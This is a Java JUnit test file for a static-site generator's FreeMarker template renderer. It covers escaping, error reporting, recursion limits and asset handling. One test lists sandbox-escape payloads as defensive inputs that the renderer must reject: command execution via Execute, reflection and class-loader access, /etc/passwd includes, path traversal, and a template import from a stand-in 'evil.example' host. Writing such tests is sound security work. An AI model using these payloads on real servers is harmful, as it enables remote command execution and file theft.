package io.github.liveblogarchive.theme;

import static io.github.liveblogarchive.theme.ThemeTests.page;
import static io.github.liveblogarchive.theme.ThemeTests.where;
import static io.github.liveblogarchive.theme.ThemeTests.write;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.github.liveblogarchive.model.Block;
import io.github.liveblogarchive.model.Moment;
import io.github.liveblogarchive.model.Settings;
import io.github.liveblogarchive.report.Code;
import io.github.liveblogarchive.report.Problem;
import io.github.liveblogarchive.report.Problems;
import io.github.liveblogarchive.site.Content;
import io.github.liveblogarchive.site.Html;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TemplatesTest {
    @TempDir
    Path folder;

    private final Problems problems = new Problems();

    /** A page's data, as small as can be. */
    record Page(String title, Html body, List<Entry> items, Moment day, int count) {}

    record Entry(String id, String name, List<String> legacyIds) {}

    private static final Page PAGE = new Page(
            "A & <b>",
            new Html("<a href=\"site:/topics/\">t</a>"),
            List.of(new Entry("barriers", "Barriers", List.of())),
            Moment.UNKNOWN,
            7);

    private Renderer renderer() {
        return Renderer.of(Settings.DEFAULTS, Optional.of(folder), problems);
    }

    private String shown(String template) {
        write(folder, "pages/home.ftlh", template);
        return page(renderer(), "home", "2024/index.html", PAGE);
    }

    private Problem problem(String template) {
        write(folder, "pages/home.ftlh", template);
        Renderer renderer = renderer();
        assertThat(problems.list()).isEmpty();
        return catchThrowableOfType(TemplateProblem.class, () -> page(renderer, "home", "2024/index.html", PAGE))
                .problem();
    }

    @Test
    void text_is_escaped_and_markup_is_resolved_for_the_page() {
        assertThat(shown("${title}|${body}|${link(\"a/b.html\")}|${absolute(\"x/\")}"))
                .isEqualTo("A &amp; &lt;b&gt;|<a href=\"../topics/\">t</a>|../a/b.html|https://archive.example/x/");
    }

    @Test
    void the_page_for_missing_addresses_links_from_the_root() {
        write(folder, "pages/notfound.ftlh", "${body}|${link(\"a/\")}");
        assertThat(page(renderer(), "notfound", "404.html", PAGE)).isEqualTo("<a href=\"/topics/\">t</a>|/a/");
    }

    @Test
    void a_component_named_as_a_function_is_reached_through_page() {
        assertThat(shown("${page.count} ${count(1234)} [${day(page.day)}] [${iso(page.day)}] [${clock(page.day)}]"))
                .isEqualTo("7 1,234 [] [] []");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
                "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.io.File\", \"x\")}",
                "${\"freemarker.template.utility.JythonRuntime\"?new()}",
                "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
                "${title?api.getClass()}",
                "${page?api.class}",
                "${page.class}",
                "${page.class.protectionDomain}",
                "${title.class.forName(\"java.lang.Runtime\")}",
                "${page.getClass()}",
                "${page.title()}",
                "${page.hashCode()}",
                "${items.class}",
                "${items.getClass().getClassLoader()}",
                "${items[0].getClass()}",
                "${items.add(1)}",
                "${site.class}",
                "${site.getClass()}",
                "${link.class}",
                "${link.exec([])}",
                "${body.class}",
                "${page.day.at}",
                "${page.day.getClass()}",
                "${.data_model.class}",
                "${.globals.getClass()}",
                "<#include \"/etc/passwd\" parse=false>",
                "<#include \"file:///etc/passwd\">",
                "<#include \"../../../../../../etc/passwd\">",
                "<#include \"classpath:/java/lang/Object.class\">",
                "<#include \"/messages/en.properties\">",
                "<#import \"http://evil.example/x.ftlh\" as x>",
                "${\"${title?api}\"?interpret}",
                "<@\"${r'${page.getClass()}'}\"?interpret />",
                "${\"page.getClass()\"?eval}",
                "<#assign ex=\"freemarker.template.utility.Execute\"?new>${ex(\"id\")}",
                "<#setting api_builtin_enabled=true>",
                "<#setting classic_compatible=true>${title?api}",
                "${statics[\"java.lang.System\"]}",
                "${.get_optional_template(\"/etc/passwd\").include()}",
            })
    void no_way_out_of_a_template(String attack) {
        write(folder, "pages/home.ftlh", attack);
        Renderer renderer = renderer();
        Throwable thrown =
                catchThrowableOfType(TemplateProblem.class, () -> page(renderer, "home", "2024/index.html", PAGE));
        assertThat(thrown).as(attack).isInstanceOf(TemplateProblem.class);
    }

    @Test
    void a_missing_variable_is_told_with_its_place_and_what_there_is() {
        Problem problem = problem("<p>\n  ${items[0].headline}");
        assertThat(problem.toString())
                .isEqualTo(
                        "ERROR templates/pages/home.ftlh:2:5 [template-error]: \"items[0].headline\" has no value, while"
                                + " rendering page \"2024/index.html\". There is no \"headline\" here, but id, name, legacyIds. Where"
                                + " a value may be absent, write a default: ${(name)!}.");
    }

    @Test
    void a_missing_variable_in_an_entry_names_the_entry() {
        write(folder, "parts/entry.ftlh", "<#macro entry item>\n${item.nmae}</#macro>");
        Problem problem = problem("<#import \"/parts/entry.ftlh\" as e><#list items as item><@e.entry item /></#list>");
        assertThat(problem.place().toString()).isEqualTo("templates/parts/entry.ftlh:2:3");
        assertThat(problem.message())
                .isEqualTo("\"item.nmae\" has no value, while rendering page \"2024/index.html\", entry \"barriers\".");
    }

    @Test
    void a_mistake_in_a_block_names_the_entry_it_stands_in() {
        write(folder, "blocks/weather.ftlh", "${data.wind}\n${data.rain}");
        Block weather = new Block.Custom("weather", new Block.Value.Fields(Map.of("wind", new Block.Value.Text("5"))));
        Renderer renderer = renderer();
        Problem problem = catchThrowableOfType(TemplateProblem.class, () -> renderer.html(List.of(weather), where()))
                .problem();
        assertThat(problem.place().toString()).isEqualTo("templates/blocks/weather.ftlh:2:3");
        assertThat(problem.message())
                .isEqualTo("\"data.rain\" has no value, while rendering entry \"barriers\" of live blog \"bridge\".");
        assertThat(problem.hint()).startsWith("There is no \"rain\" here.");
    }

    @Test
    void all_mistakes_of_syntax_are_told_at_the_start() {
        write(folder, "pages/home.ftlh", "<p>\n<#if title>x");
        write(folder, "blocks/weather.ftlh", "${title");
        renderer();
        assertThat(problems.list()).extracting(Problem::code).containsExactly(Code.TEMPLATE_ERROR, Code.TEMPLATE_ERROR);
        assertThat(problems.list().get(0).place().toString()).startsWith("templates/blocks/weather.ftlh:1:");
        assertThat(problems.list().get(1).place().toString()).startsWith("templates/pages/home.ftlh:2:");
        assertThat(problems.list().get(1).message())
                .startsWith("The template cannot be read: ")
                .hasSizeLessThan(400);
    }

    @Test
    void an_unknown_include_is_told_where_it_is_asked_for() {
        Problem problem = problem("a\n <#include \"/parts/none.ftlh\">");
        assertThat(problem.code()).isEqualTo(Code.TEMPLATE_MISSING);
        assertThat(problem.place().toString()).isEqualTo("templates/pages/home.ftlh:2:2");
        assertThat(problem.message())
                .isEqualTo("The template \"parts/none.ftlh\" is not there, while rendering page \"2024/index.html\".");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<#macro a>\n<@a /></#macro><@a />",
                "<#macro a>\n<@b /></#macro><#macro b><@a /></#macro><@a />",
                "<#function f>\n<#return f()></#function>${f()}",
                "x\n<#include \"/pages/home.ftlh\">",
            })
    void a_template_without_an_end_is_told(String template) {
        Problem problem = problem(template);
        assertThat(problem.place().toString()).startsWith("templates/pages/home.ftlh:");
        assertThat(problem.place().line()).isPositive();
        assertThat(problem.message()).startsWith("The template calls itself without an end, while rendering page");
    }

    @Test
    void a_stack_too_small_for_the_guard_takes_nothing_down() throws InterruptedException {
        write(folder, "pages/home.ftlh", "<#macro a><@a /></#macro><@a />");
        Renderer renderer = renderer();
        Problem[] told = new Problem[1];
        Thread small = new Thread(
                null,
                () -> told[0] = catchThrowableOfType(
                                TemplateProblem.class, () -> page(renderer, "home", "x.html", PAGE))
                        .problem(),
                "small",
                192 * 1024);
        small.start();
        small.join();
        assertThat(told[0].message()).startsWith("The template calls itself without an end");
    }

    @Test
    void a_kept_piece_is_made_once_for_pages_of_one_name_but_for_its_links() {
        write(
                folder,
                "pages/home.ftlh",
                "<@kept by=page.count?c>${title} <a href=\"${link(\"a/b/\")}\">${body}</@kept>");
        Renderer renderer = renderer();
        String first = "First <a href=\"%s\"><a href=\"%s\">t</a>";
        assertThat(page(renderer, "home", "a/c/index.html", titled("First", 7)))
                .isEqualTo(first.formatted("../b/", "../../topics/"));
        assertThat(page(renderer, "home", "x/c/index.html", titled("Second", 7)))
                .isEqualTo(first.formatted("../../a/b/", "../../topics/"));
        assertThat(page(renderer, "home", "a/index.html", titled("Third", 7)))
                .isEqualTo(first.formatted("b/", "../topics/"));
        assertThat(page(renderer, "home", "a/d/index.html", titled("Fourth", 8)))
                .startsWith("Fourth ");
    }

    private static Page titled(String title, int count) {
        return new Page(title, new Html("<a href=\"site:/topics/\">t</a>"), List.of(), Moment.UNKNOWN, count);
    }

    @Test
    void a_kept_piece_without_a_name_is_told() {
        assertThat(problem("<@kept>x</@kept>").message()).contains("kept takes a name");
    }

    @Test
    void functions_say_what_they_cannot_do() {
        assertThat(problem("${msg(\"no.such.word\")}").message())
                .startsWith("There is no message \"no.such.word\", while rendering");
        assertThat(problem("${asset(\"none.css\")}").message()).startsWith("There is no file \"assets/none.css\"");
        assertThat(problem("${link(page.nothing)}").message()).startsWith("value 1 of link is not there");
        assertThat(problem("${headings(title, 2)}").message()).startsWith("value 1 of headings is not markup");
        assertThat(problem("${link()}").message()).startsWith("link takes 1 values, not 0");
        assertThat(problem("${day(title)}").message()).startsWith("value 1 is not a moment");
        assertThat(problem("${markdown(title)}").message()).startsWith("markdown(...) works in blocks/ only");
    }

    @Test
    void the_users_files_stand_before_the_themes() {
        Renderer theme = Renderer.of(Settings.DEFAULTS, Optional.empty(), problems);
        write(folder, "parts/own.ftlh", "mine");
        write(folder, "assets/site.css", "p{}");
        write(folder, "messages/en.properties", "site.home=Front page");
        assertThat(
                        shown(
                                "<#include \"/parts/own.ftlh\">|${asset(\"site.css\")}|${msg(\"site.home\")}|${msg(\"site.dates\")}"))
                .isEqualTo("mine|../assets/site-806db221261e.css|Front page|Dates");
        assertThat(renderer().digest()).isNotEqualTo(theme.digest());
    }

    @Test
    void the_style_sheet_is_joined_from_its_pieces_in_the_order_of_their_names() throws Exception {
        write(folder, "styles/95-own.css", "a{}");
        write(folder, "styles/10-tokens.css", ":root{}");
        write(folder, "blocks/weather.css", "dl{}");
        write(folder, "scripts/90-own.js", "'mine';");
        assertThat(asset("site.css"))
                .startsWith(":root{}\n")
                .endsWith("a{}\ndl{}\n")
                .contains(".entry");
        assertThat(asset("site.js")).endsWith("'mine';\n").contains("file:");
        assertThat(problems.list()).isEmpty();
    }

    @Test
    void an_owners_folder_of_styles_is_a_part_of_the_style_sheet() throws Exception {
        write(folder, "styles/own/10-map.css", "p{}");
        write(folder, "styles/replay/20-own.css", "b{}");
        write(folder, "scripts/site/10-own.js", "'mine';");
        assertThat(asset("site.css")).contains("p{}", ".entry").doesNotContain("b{}");
        assertThat(asset("replay.css")).contains(".replay").endsWith("b{}\n");
        assertThat(asset("site.js")).contains("'mine';", "file:");
    }

    @Test
    void a_whole_style_sheet_stands_for_all_pieces() throws Exception {
        write(folder, "assets/site.css", "p{}");
        write(folder, "styles/95-own.css", "a{}");
        assertThat(asset("site.css")).isEqualTo("p{}");
    }

    private String asset(String name) throws Exception {
        Assets assets = renderer().assets();
        String path = assets.path(name).orElseThrow();
        var page = assets.pages().stream()
                .filter(p -> p.path().equals(path))
                .findFirst()
                .orElseThrow();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ((Content.Stream) page.content()).writer().write(out);
        return out.toString(StandardCharsets.UTF_8);
    }

    @Test
    void a_file_that_replaces_nothing_is_told() {
        write(folder, "page/home.ftlh", "x");
        write(folder, "pages/hmoe.ftlh", "x");
        write(folder, "blocks/x.html", "x");
        write(folder, "README.md", "x");
        write(folder, ".DS_Store", "x");
        renderer();
        assertThat(problems.list())
                .extracting(problem -> problem.place().file())
                .containsExactly("templates/blocks/x.html", "templates/page/home.ftlh", "templates/pages/hmoe.ftlh");
        assertThat(problems.list()).allMatch(problem -> problem.code() == Code.UNUSED_FILE);
    }

    @Test
    void a_failed_attempt_in_a_template_is_the_templates_own_affair() {
        assertThat(shown("<#attempt>${nothing}<#recover>none</#attempt>")).isEqualTo("none");
    }
}
